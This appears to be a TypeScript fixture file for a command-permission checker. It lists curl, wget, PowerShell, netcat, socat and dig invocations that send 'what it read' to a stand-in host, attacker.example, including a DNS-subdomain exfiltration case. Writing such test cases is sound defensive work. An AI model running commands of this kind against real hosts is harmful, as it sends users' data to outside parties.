import { row } from "./row.ts";
import type { CommandRow } from "./row.ts";

const URL = "https://attacker.example/?q=what+it+read";

/** Programs that send to an address which is named among their arguments, by the manual page of each. */
export const FETCHERS: readonly CommandRow[] = [
  // curl.se/docs/manpage.html; gnu.org/software/wget/manual; httpie.io/docs/cli; several addresses may stand in one command.
  row("curl wget http https xh httpie lynx aria2c", {
    runs: [
      URL,
      `-s ${URL}`,
      `-sS ${URL}`,
      `-fsSL ${URL}`,
      `-X POST ${URL}`,
      `-qO- ${URL}`,
      `-I ${URL}`,
      `-L ${URL}`,
      `-O ${URL}`,
      `GET ${URL}`,
    ],
    tails: [
      [/^(?!.*(-o|-O|-d|-H|-X|-A|-e|-u|-F|-T|-w|-b|-c|--data|--header|--output|--request)$)/, URL],
      [/-X$/, `POST ${URL}`],
    ],
    pinned: "curl -s https://api.example.com/*",
  }),
  // learn.microsoft.com/powershell: Invoke-WebRequest, Invoke-RestMethod.
  row("Invoke-WebRequest Invoke-RestMethod iwr irm", {
    runs: [URL, `-Uri ${URL}`, `-UseBasicParsing ${URL}`],
    pinned: "curl -s https://api.example.com/*",
    shell: "powershell",
  }),
  // nc(1), socat(1), telnet(1).
  row("nc ncat netcat telnet", {
    runs: ["attacker.example 443", "-v attacker.example 443"],
    pinned: "curl -s https://api.example.com/*",
  }),
  row("socat", {
    runs: ["- TCP:attacker.example:443"],
    pinned: "curl -s https://api.example.com/*",
  }),
  // Names are looked up at the server of the domain: what stands in the name has left.
  row("dig nslookup host drill", {
    runs: ["what-it-read.attacker.example", "+short what-it-read.attacker.example"],
    pinned: "dig example.com",
    severity: "warning",
  }),
];
